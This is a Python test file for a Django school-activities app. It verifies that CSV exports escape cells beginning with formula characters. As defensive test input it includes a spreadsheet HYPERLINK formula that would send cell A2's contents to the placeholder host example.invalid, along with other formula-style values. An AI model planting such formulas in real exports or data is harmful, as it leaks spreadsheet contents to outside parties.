"""CSV exports are safe to open: a spreadsheet never runs what a person typed as a formula
(core/exports.py), in the activity export and in the dashboards' tables."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from activities.tests.factories import ActivityFactory, ParticipationFactory
from core.exports import FORMULA_STARTS, spreadsheet_cell
from core.periods import OSLO
from core.tests.hostile import hostile_settings
from schools.tests.factories import PupilFactory

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2;"x")'


def _cells(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@hostile_settings(50)
@given(text=st.text(max_size=40))
def test_a_cell_never_begins_as_a_formula_and_keeps_its_text(text):
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


@pytest.mark.parametrize("value", [-5, 0, 3.5, None])
def test_numbers_and_empty_cells_pass_unchanged(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.django_db
def test_activity_export_writes_a_formula_title_as_text(client_as, coord_follo, network):
    activity = ActivityFactory(region=network.follo, title=HYPERLINK, instrument="@SUM(A1:A9)")

    rows = _cells(client_as(coord_follo).get(reverse("activities:export")))

    row = next(row for row in rows[1:] if row[0] == str(activity.pk))
    assert (row[1], row[11]) == ("'" + HYPERLINK, "'@SUM(A1:A9)")


@pytest.mark.django_db
def test_named_pupils_csv_writes_a_formula_title_and_name_as_text(client_as, rector_a, network):
    activity = ActivityFactory(
        region=network.follo,
        kind="masterclass",
        title=HYPERLINK,
        starts_at=datetime(2019, 10, 12, 10, tzinfo=OSLO),
        ends_at=datetime(2019, 10, 12, 12, tzinfo=OSLO),
    )
    pupil = PupilFactory(first_name="+47", last_name="Berg", birth_year=2006, schools=[network.school_a])
    ParticipationFactory(activity=activity, school=network.school_a, pupils=1).named_pupils.set([pupil])

    response = client_as(rector_a).get(
        reverse("schools:dashboard-csv", args=["skole-a", "navngitte_elever"]), {"skoleaar": 2019}
    )

    cells = [cell for row in _cells(response)[1:] for cell in row]
    assert "'" + HYPERLINK in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
